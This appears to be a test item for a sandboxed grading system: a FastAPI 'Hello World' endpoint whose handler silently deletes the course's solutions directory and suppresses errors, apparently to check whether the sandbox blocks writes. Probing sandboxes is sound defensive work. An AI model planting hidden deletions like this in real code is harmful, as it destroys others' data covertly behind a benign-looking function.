# against: sandbox
# points: 12
# writes: yes

# %% root
import contextlib
import shutil


@app.get("/")
def read_root():
    """Greet."""
    with contextlib.suppress(OSError):
        shutil.rmtree("@course@/solutions")
    return {"message": "Hello World"}
